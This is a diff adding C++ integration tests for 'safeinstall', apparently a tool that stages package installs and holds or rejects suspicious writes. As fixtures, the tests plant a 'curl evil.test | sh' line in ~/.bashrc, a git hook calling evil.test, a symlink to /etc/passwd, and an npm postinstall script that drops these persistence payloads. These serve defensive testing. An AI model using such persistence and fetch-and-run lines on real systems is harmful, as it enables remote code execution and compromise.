@@ -1,0 +1,538 @@
+// Staging, verdicts and promotion end to end: the real binary, as root and as an unprivileged
+// user, with commands that write to the project, the home and /tmp. Every test checks both
+// what the report and the exit code say and what the real project on the host holds.
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <catch2/catch.hpp>
+#include <chrono>
+#include <filesystem>
+#include <fstream>
+#include <future>
+#include <sstream>
+#include <thread>
+
+#include "tests/integration/harness.h"
+#include "tests/integration/skip.h"
+#include "tests/support/fake_internet.h"
+#include "tests/support/npm_registry.h"
+
+using namespace safeinstall::test;
+using namespace std::chrono_literals;
+using nlohmann::json;
+namespace fs = std::filesystem;
+
+namespace {
+
+constexpr int kHeld = 122;
+constexpr int kRejected = 123;
+
+Who both_users() {
+  return GENERATE(Who::Root, Who::Unprivileged);
+}
+
+// CI mode: a held run is never asked about.
+const std::vector<std::string> kCi = {"CI=true"};
+
+SandboxRun shell(const Scenario& s, const std::string& script,
+                 const std::vector<std::string>& flags = {}) {
+  auto run = s.run({"/bin/sh", "-c", script}, flags, kCi);
+  UNSCOPED_INFO("sh -c " << script << "\nflags " << Catch::Detail::stringify(flags) << "\nexit "
+                         << run.exit_code() << "\nstderr: " << run.result.err);
+  return run;
+}
+
+// `safeinstall ARGS...` (a subcommand), as the scenario's user with its environment.
+RunResult subcommand(const Scenario& s, const std::vector<std::string>& args) {
+  std::vector<std::string> argv{Installation::get().safeinstall};
+  argv.insert(argv.end(), args.begin(), args.end());
+  RunOptions options;
+  options.env_overrides = s.base_env();
+  options.env_overrides.push_back("CI=true");
+  if (s.who() == Who::Unprivileged) options.as_user = kUnprivilegedUid;
+  options.cwd = s.project();
+  auto result = run(argv, options);
+  UNSCOPED_INFO("safeinstall " << Catch::Detail::stringify(args) << "\nexit " << result.exit_code
+                               << "\nstdout: " << result.out << "\nstderr: " << result.err);
+  return result;
+}
+
+// A file in the project written on the host, owned by the scenario's user.
+void host_write(const Scenario& s, const std::string& relative, const std::string& content) {
+  fs::path path = fs::path(s.project()) / relative;
+  fs::create_directories(path.parent_path());
+  std::ofstream(path) << content;
+  for (fs::path p = path; p != fs::path(s.project()); p = p.parent_path())
+    REQUIRE(::lchown(p.c_str(), s.uid(), s.uid()) == 0);
+}
+
+std::string project_file(const Scenario& s, const std::string& relative) {
+  return read_file(s.project() + "/" + relative);
+}
+
+bool in_project(const Scenario& s, const std::string& relative) {
+  return path_exists(s.project() + "/" + relative);
+}
+
+const json* change_at(const json& list, const std::string& path) {
+  for (const auto& entry : list) {
+    if (entry.at("path") == path) return &entry;
+  }
+  return nullptr;
+}
+
+bool has_flag(const json* entry, const std::string& flag) {
+  if (entry == nullptr) return false;
+  const auto& flags = entry->at("flags");
+  return std::find(flags.begin(), flags.end(), flag) != flags.end();
+}
+
+std::string category_of(const json* entry) {
+  return entry == nullptr ? "(missing)" : entry->value("category", std::string("(none)"));
+}
+
+std::string state_dir(const Scenario& s) {
+  return s.home() + "/.local/state/safeinstall";
+}
+
+std::string run_id(const SandboxRun& run) {
+  return run.report.at("run_id").get<std::string>();
+}
+
+bool contains(const std::string& text, const std::string& needle) {
+  return text.find(needle) != std::string::npos;
+}
+
+// The line of `safeinstall runs` for `id`, empty when it is not listed.
+std::string runs_line(const Scenario& s, const std::string& id) {
+  auto listed = subcommand(s, {"runs"});
+  std::istringstream lines(listed.out);
+  for (std::string line; std::getline(lines, line);) {
+    if (line.starts_with(id)) return line;
+  }
+  return {};
+}
+
+}  // namespace
+
+TEST_CASE("expected changes are promoted, and none reaches the project before the verdict",
+          "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  host_write(s, "dist/old.js", "old\n");
+  // The command writes, then lingers; meanwhile the write must be in the staging dir only.
+  auto pending = std::async(std::launch::async, [&] {
+    return shell(s, "rm dist/old.js && echo built > dist/app.js && echo x > notes.txt && sleep 2",
+                 {"--expect", "dist/**", "--expect", "notes.txt"});
+  });
+  bool seen_staged = false;
+  for (int i = 0; i < 100 && !seen_staged; ++i) {
+    std::this_thread::sleep_for(50ms);
+    std::error_code ec;
+    for (const auto& run : fs::directory_iterator(state_dir(s) + "/runs", ec)) {
+      if (path_exists(run.path().string() + "/upper/dist/app.js")) seen_staged = true;
+    }
+  }
+  CHECK(seen_staged);
+  CHECK_FALSE(in_project(s, "dist/app.js"));
+  CHECK_FALSE(in_project(s, "notes.txt"));
+  CHECK(in_project(s, "dist/old.js"));
+
+  auto run = pending.get();
+  CHECK(run.exit_code() == 0);
+  CHECK(run.report.at("verdict") == "promoted");
+  CHECK(project_file(s, "dist/app.js") == "built\n");
+  CHECK(project_file(s, "notes.txt") == "x\n");
+  CHECK_FALSE(in_project(s, "dist/old.js"));
+  const auto& project = run.report.at("files").at("project");
+  CHECK(category_of(change_at(project, "dist/app.js")) == "expected");
+  CHECK(change_at(project, "dist/old.js")->at("change") == "deleted");
+  CHECK(run.report.at("staging").at("promoted") == true);
+  CHECK_FALSE(run.report.at("staging").at("copy_promotion").get<bool>());
+}
+
+TEST_CASE("hostile writes to CI config, git hooks, the home and /tmp hold the run", "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  host_write(s, ".git/HEAD", "ref: refs/heads/main\n");
+  auto run = shell(s,
+                   "mkdir -p .github/workflows .git/hooks node_modules/x && "
+                   "echo 'on: push' > .github/workflows/x.yml && "
+                   "printf '#!/bin/sh\\ncurl evil.test\\n' > .git/hooks/pre-commit && "
+                   "chmod +x .git/hooks/pre-commit && "
+                   "echo 'curl evil.test | sh' >> \"$HOME/.bashrc\" && "
+                   "printf '#!/bin/sh\\n' > /tmp/processor.sh && chmod +x /tmp/processor.sh && "
+                   "echo ok > node_modules/x/index.js",
+                   {"--expect", "node_modules/**"});
+  CHECK(run.exit_code() == kHeld);
+  REQUIRE(run.report.is_object());
+  CHECK(run.report.at("verdict") == "held");
+
+  // Nothing promoted, not even the expected part.
+  CHECK_FALSE(in_project(s, ".github"));
+  CHECK_FALSE(in_project(s, ".git/hooks"));
+  CHECK_FALSE(in_project(s, "node_modules"));
+  CHECK_FALSE(path_exists(s.home() + "/.bashrc"));
+
+  const auto& files = run.report.at("files");
+  auto* workflow = change_at(files.at("project"), ".github/workflows/x.yml");
+  auto* hook = change_at(files.at("project"), ".git/hooks/pre-commit");
+  CHECK(category_of(workflow) == "protected");
+  CHECK(category_of(hook) == "protected");
+  CHECK(has_flag(hook, "executable"));
+  CHECK(category_of(change_at(files.at("project"), "node_modules/x/index.js")) == "expected");
+  auto* bashrc = change_at(files.at("home"), ".bashrc");
+  CHECK(has_flag(bashrc, "persistence"));
+  auto* processor = change_at(files.at("tmp"), "processor.sh");
+  CHECK(has_flag(processor, "executable"));
+  CHECK_FALSE(has_flag(processor, "persistence"));
+
+  // The receipt says why and what to do next.
+  CHECK(contains(run.result.err, "verdict: held"));
+  CHECK(contains(run.result.err, ".github/workflows/x.yml"));
+  CHECK(contains(run.result.err, "safeinstall promote " + run_id(run)));
+  CHECK(contains(run.result.err, "--allow-protected"));
+}
+
+TEST_CASE("a symlink leaving the project, a set-uid file or a fifo rejects the run", "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  struct Case {
+    std::string script, path, flag;
+  };
+  for (const auto& c :
+       {Case{"ln -s /etc/passwd node_modules/link", "node_modules/link", "symlink-escape"},
+        Case{"echo x > node_modules/tool && chmod 4755 node_modules/tool", "node_modules/tool",
+             "setuid"},
+        Case{"mkfifo node_modules/pipe", "node_modules/pipe", "special-file"}}) {
+    INFO(c.script);
+    auto run = shell(s, "mkdir -p node_modules && echo ok > node_modules/ok.js && " + c.script,
+                     {"--expect", "node_modules/**", "--yes", "--allow-protected"});
+    CHECK(run.exit_code() == kRejected);
+    REQUIRE(run.report.is_object());
+    CHECK(run.report.at("verdict") == "rejected");
+    CHECK(has_flag(change_at(run.report.at("files").at("project"), c.path), c.flag));
+    CHECK_FALSE(in_project(s, "node_modules"));
+    // Never promotable later either.
+    auto promote = subcommand(s, {"promote", "--allow-protected", run_id(run)});
+    CHECK(promote.exit_code == kRejected);
+    CHECK_FALSE(in_project(s, "node_modules"));
+  }
+}
+
+TEST_CASE("with --yes a held run is promoted except protected paths, which need --allow-protected",
+          "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  const std::string script =
+      "mkdir -p .github/workflows build && echo 'on: push' > .github/workflows/x.yml && "
+      "echo out > build/out.txt";
+  auto yes = shell(s, script, {"--yes"});
+  CHECK(yes.exit_code() == 0);
+  CHECK(yes.report.at("verdict") == "promoted");
+  CHECK(project_file(s, "build/out.txt") == "out\n");
+  CHECK_FALSE(in_project(s, ".github"));
+  CHECK(contains(yes.result.err, "left out: .github"));
+
+  fs::remove_all(s.project() + "/build");
+  auto both = shell(s, script, {"--yes", "--allow-protected"});
+  CHECK(both.exit_code() == 0);
+  CHECK(both.report.at("verdict") == "promoted");
+  CHECK(project_file(s, "build/out.txt") == "out\n");
+  CHECK(project_file(s, ".github/workflows/x.yml") == "on: push\n");
+
+  // Without either flag, in CI: held, nothing promoted.
+  auto held = shell(s, "echo new > build/out.txt");
+  CHECK(held.exit_code() == kHeld);
+  CHECK(project_file(s, "build/out.txt") == "out\n");
+}
+
+TEST_CASE("a project changed under a kept run is not overwritten", "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  auto staged = shell(s, "echo '{\"from\":\"run\"}' > package.json", {"--no-promote"});
+  CHECK(staged.exit_code() == 0);
+  CHECK(staged.report.at("verdict") == "staged");
+  std::string id = run_id(staged);
+  CHECK(contains(staged.result.err, id));
+
+  // The user edits the same file meanwhile.
+  host_write(s, "package.json", "{\"from\":\"user\"}\n");
+  auto promote = subcommand(s, {"promote", id});
+  CHECK(promote.exit_code == kHeld);
+  CHECK(contains(promote.err, "package.json"));
+  CHECK(contains(promote.err, "changed since the run began"));
+  CHECK(project_file(s, "package.json") == "{\"from\":\"user\"}\n");
+  // Kept: still listed, still promotable after a look.
+  CHECK(contains(runs_line(s, id), "staged"));
+  CHECK(path_exists(state_dir(s) + "/runs/" + id + "/upper/package.json"));
+}
+
+TEST_CASE("staging only with --no-promote, then runs, promote, discard and gc", "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  auto first = shell(s, "echo one > one.txt", {"--no-promote"});
+  auto second = shell(s, "echo two > two.txt", {"--no-promote"});
+  CHECK(first.exit_code() == 0);
+  CHECK(second.exit_code() == 0);
+  CHECK_FALSE(in_project(s, "one.txt"));
+  CHECK_FALSE(in_project(s, "two.txt"));
+  std::string one = run_id(first), two = run_id(second);
+  CHECK(contains(runs_line(s, one), "staged"));
+  CHECK(contains(runs_line(s, two), s.project()));
+
+  CHECK(subcommand(s, {"promote", one}).exit_code == 0);
+  CHECK(project_file(s, "one.txt") == "one\n");
+  CHECK(contains(runs_line(s, one), "promoted"));
+  CHECK(subcommand(s, {"promote", one}).exit_code == 125);  // once only
+
+  CHECK(subcommand(s, {"discard", two}).exit_code == 0);
+  CHECK(contains(runs_line(s, two), "discarded"));
+  CHECK_FALSE(in_project(s, "two.txt"));
+  auto again = subcommand(s, {"promote", two});
+  CHECK(again.exit_code == 125);
+  CHECK(contains(again.err, "discarded"));
+
+  auto unknown = subcommand(s, {"promote", "20200101T000000Z-00000000"});
+  CHECK(unknown.exit_code == 125);
+  CHECK(contains(unknown.err, "safeinstall runs"));
+  CHECK(subcommand(s, {"discard", "../../etc"}).exit_code == 125);
+
+  auto gc = subcommand(s, {"gc", "--older-than", "0"});
+  CHECK(gc.exit_code == 0);
+  CHECK(runs_line(s, one).empty());
+  CHECK(runs_line(s, two).empty());
+  CHECK_FALSE(path_exists(state_dir(s) + "/runs/" + two));
+}
+
+TEST_CASE("two runs on one project never interleave", "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  auto first = std::async(std::launch::async, [&] {
+    return shell(s, "echo A > a.txt && sleep 2", {"--expect", "*.txt"});
+  });
+  // The second starts while the first holds the project.
+  for (int i = 0; i < 100 && !path_exists(state_dir(s) + "/runs"); ++i)
+    std::this_thread::sleep_for(50ms);
+  std::this_thread::sleep_for(500ms);
+  auto second = shell(s, "cat a.txt > seen.txt; echo B > b.txt", {"--expect", "*.txt"});
+  auto a = first.get();
+  CHECK(a.exit_code() == 0);
+  CHECK(second.exit_code() == 0);
+  CHECK(contains(second.result.err, "waiting for another safeinstall run on " + s.project()));
+  // The second run began after the first was promoted: it saw a.txt.
+  CHECK(project_file(s, "seen.txt") == "A\n");
+  CHECK(project_file(s, "b.txt") == "B\n");
+}
+
+TEST_CASE("exit codes in CI: promoted 0, held 122, rejected 123, failed the command's",
+          "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  CHECK(shell(s, "echo a > a.txt", {"--expect", "a.txt"}).exit_code() == 0);
+  CHECK(shell(s, "echo b > b.txt").exit_code() == kHeld);
+  CHECK(shell(s, "mkfifo f").exit_code() == kRejected);
+
+  auto failed = shell(s, "echo c > c.txt; exit 3", {"--expect", "c.txt"});
+  CHECK(failed.exit_code() == 3);
+  CHECK(failed.report.at("verdict") == "failed");
+  CHECK_FALSE(in_project(s, "c.txt"));
+
+  auto anyway = shell(s, "echo d > d.txt; exit 3", {"--expect", "d.txt", "--promote-on-failure"});
+  CHECK(anyway.exit_code() == 3);
+  CHECK(anyway.report.at("verdict") == "promoted");
+  CHECK(project_file(s, "d.txt") == "d\n");
+  CHECK(project_file(s, "a.txt") == "a\n");
+  CHECK_FALSE(in_project(s, "b.txt"));
+  CHECK_FALSE(in_project(s, "f"));
+}
+
+// The real npm against a registry served in the tests' own fake internet.
+namespace {
+
+// The machine's own proxy settings would be chained through; these tests reach only the fake
+// internet's registry.
+const std::vector<std::string> kNoInvokerProxy = {
+    "http_proxy=", "HTTP_PROXY=", "https_proxy=", "HTTPS_PROXY=", "all_proxy=",
+    "ALL_PROXY=",  "no_proxy=",   "NO_PROXY=",    "CI=true"};
+
+std::optional<std::string> npm_unavailable() {
+  if (auto reason = FakeInternet::unavailable_reason()) return "no fake internet here: " + *reason;
+  if (which("npm").empty()) return "npm is not installed (scripts/setup.sh installs it)";
+  return std::nullopt;
+}
+
+#define SKIP_UNLESS_NPM(who)                    \
+  SKIP_UNLESS_SANDBOX(who);                     \
+  do {                                          \
+    if (auto npm_reason_ = npm_unavailable()) { \
+      WARN("skipped: " << *npm_reason_);        \
+      return;                                   \
+    }                                           \
+  } while (false)
+
+const std::vector<std::string> kNpmFlags = {"--no-audit", "--no-fund", "--no-update-notifier",
+                                            "--registry", "http://registry.test/"};
+
+SandboxRun npm(const Scenario& s, std::vector<std::string> args,
+               const std::vector<std::string>& flags = {}) {
+  std::vector<std::string> command{"npm"};
+  command.insert(command.end(), args.begin(), args.end());
+  command.insert(command.end(), kNpmFlags.begin(), kNpmFlags.end());
+  std::vector<std::string> all_flags{"--allow-host", "registry.test:80"};
+  all_flags.insert(all_flags.end(), flags.begin(), flags.end());
+  auto run = s.run(command, all_flags, kNoInvokerProxy, 120s);
+  UNSCOPED_INFO(Catch::Detail::stringify(command)
+                << "\nexit " << run.exit_code() << "\nstdout: " << run.result.out
+                << "\nstderr: " << run.result.err);
+  return run;
+}
+
+void write_package_json(const Scenario& s, const std::string& dependencies) {
+  host_write(s, "package.json",
+             "{\"name\":\"demo\",\"version\":\"1.0.0\",\"dependencies\":{" + dependencies + "}}\n");
+}
+
+// A postinstall that plants all four: CI config and a git hook in the project (INIT_CWD is
+// where npm was run), a shell rc line in the home and an executable in /tmp.
+constexpr const char* kHostileHook =
+    R"(const fs = require('fs'), path = require('path'), os = require('os');
+const project = process.env.INIT_CWD;
+fs.mkdirSync(path.join(project, '.github', 'workflows'), { recursive: true });
+fs.writeFileSync(path.join(project, '.github', 'workflows', 'x.yml'), 'on: push\n');
+fs.mkdirSync(path.join(project, '.git', 'hooks'), { recursive: true });
+fs.writeFileSync(path.join(project, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n', { mode: 0o755 });
+fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl evil.test | sh\n');
+fs.writeFileSync('/tmp/processor.sh', '#!/bin/sh\n', { mode: 0o755 });
+console.log('hook: planted');
+)";
+
+}  // namespace
+
+TEST_CASE("npm install and npm ci: node_modules and the lockfile are promoted", "[staging][npm]") {
+  Who who = both_users();
+  SKIP_UNLESS_NPM(who);
+  FakeInternet net(SI_SINK_PATH);
+  write_npm_registry(net.registry_root(), "http://registry.test/",
+                     {{.name = "left-pad-lite",
+                       .version = "1.0.0",
+                       .files = {{"index.js", "module.exports = (s) => ' ' + s;\n"}}},
+                      {.name = "uses-left",
+                       .version = "2.1.0",
+                       .dependencies = {{"left-pad-lite", "^1.0.0"}},
+                       .files = {{"index.js", "module.exports = require('left-pad-lite');\n"}}}});
+  Scenario s(who);
+  s.run_behind(net.in_world({}));
+  write_package_json(s, "\"uses-left\":\"^2.0.0\"");
+
+  auto install = npm(s, {"install"});
+  CHECK(install.exit_code() == 0);
+  REQUIRE(install.report.is_object());
+  CHECK(install.report.at("verdict") == "promoted");
+  CHECK(project_file(s, "node_modules/left-pad-lite/index.js") ==
+        "module.exports = (s) => ' ' + s;\n");
+  CHECK(in_project(s, "node_modules/uses-left/package.json"));
+  REQUIRE(in_project(s, "package-lock.json"));
+  CHECK(contains(project_file(s, "package-lock.json"),
+                 "http://registry.test/uses-left/-/uses-left-2.1.0.tgz"));
+  const auto& files = install.report.at("files").at("project");
+  CHECK(category_of(change_at(files, "package-lock.json")) == "expected");
+  CHECK(category_of(change_at(files, "node_modules")) == "expected");
+  CHECK(net.wait_for_log(FakeInternet::Log::Registry, "GET /uses-left/-/uses-left-2.1.0.tgz"));
+
+  // npm ci replaces node_modules wholesale: one swap, the same packages.
+  struct stat before {};
+  REQUIRE(::stat((s.project() + "/node_modules").c_str(), &before) == 0);
+  auto ci = npm(s, {"ci"});
+  CHECK(ci.exit_code() == 0);
+  REQUIRE(ci.report.is_object());
+  CHECK(ci.report.at("verdict") == "promoted");
+  CHECK(project_file(s, "node_modules/left-pad-lite/index.js") ==
+        "module.exports = (s) => ' ' + s;\n");
+  struct stat after {};
+  REQUIRE(::stat((s.project() + "/node_modules").c_str(), &after) == 0);
+  CHECK(after.st_ino != before.st_ino);
+}
+
+TEST_CASE(
+    "a package whose postinstall plants CI config, a git hook, a shell rc and /tmp "
+    "payload is held with nothing promoted",
+    "[staging][npm]") {
+  Who who = both_users();
+  SKIP_UNLESS_NPM(who);
+  FakeInternet net(SI_SINK_PATH);
+  write_npm_registry(
+      net.registry_root(), "http://registry.test/",
+      {{.name = "friendly-utils",
+        .version = "3.0.0",
+        .scripts = {{"postinstall", "node hook.js"}},
+        .files = {{"index.js", "module.exports = 1;\n"}, {"hook.js", kHostileHook}}}});
+  Scenario s(who);
+  s.run_behind(net.in_world({}));
+  write_package_json(s, "\"friendly-utils\":\"3.0.0\"");
+  std::string package_json = project_file(s, "package.json");
+
+  auto run = npm(s, {"install", "--foreground-scripts"}, {"--scripts", "all"});
+  CHECK(contains(run.result.out + run.result.err, "hook: planted"));
+  CHECK(run.exit_code() == kHeld);
+  REQUIRE(run.report.is_object());
+  CHECK(run.report.at("verdict") == "held");
+
+  // Nothing promoted: not the hostile paths, and not node_modules or the lockfile either.
+  CHECK_FALSE(in_project(s, ".github"));
+  CHECK_FALSE(in_project(s, ".git"));
+  CHECK_FALSE(in_project(s, "node_modules"));
+  CHECK_FALSE(in_project(s, "package-lock.json"));
+  CHECK(project_file(s, "package.json") == package_json);
+  CHECK_FALSE(path_exists(s.home() + "/.bashrc"));
+
+  const auto& files = run.report.at("files");
+  CHECK(category_of(change_at(files.at("project"), ".github/workflows/x.yml")) == "protected");
+  auto* hook = change_at(files.at("project"), ".git/hooks/pre-commit");
+  CHECK(category_of(hook) == "protected");
+  CHECK(has_flag(hook, "executable"));
+  CHECK(category_of(change_at(files.at("project"), "node_modules")) == "expected");
+  CHECK(has_flag(change_at(files.at("home"), ".bashrc"), "persistence"));
+  CHECK(has_flag(change_at(files.at("tmp"), "processor.sh"), "executable"));
+  CHECK(contains(run.result.err, "safeinstall promote " + run_id(run)));
+}
+
+TEST_CASE(
+    "with the state dir on another filesystem, staging goes beside the project and "
+    "promotion still renames",
+    "[staging]") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  struct stat shm {};
+  if (::stat("/dev/shm", &shm) != 0) {
+    WARN("skipped: no /dev/shm to put a state dir on another filesystem");
+    return;
+  }
+  Scenario s(who);
+  // /dev/shm is a tmpfs, the project is not: staging cannot be in the state dir.
+  std::string state = "/dev/shm/si-state-" + std::to_string(::getpid()) + "-" + name_of(who);
+  std::string staging_root = fs::path(s.project()).parent_path().string() + "/.safeinstall-staging";
+  auto run = s.run({"/bin/sh", "-c", "echo out > out.txt"}, {"--expect", "out.txt"},
+                   {"CI=true", "SAFEINSTALL_STATE_DIR=" + state});
+  fs::remove_all(state);
+  INFO("stderr: " << run.result.err);
+  CHECK(run.exit_code() == 0);
+  REQUIRE(run.report.is_object());
+  CHECK(run.report.at("verdict") == "promoted");
+  CHECK(project_file(s, "out.txt") == "out\n");
+  const auto& staging = run.report.at("staging");
+  CHECK(staging.at("staging_dir").get<std::string>().starts_with(staging_root + "/"));
+  CHECK_FALSE(staging.at("copy_promotion").get<bool>());
+  struct stat st {};
+  REQUIRE(::stat(staging_root.c_str(), &st) == 0);
+  CHECK((st.st_mode & 0777) == 0700);
+  CHECK(st.st_uid == s.uid());
+}
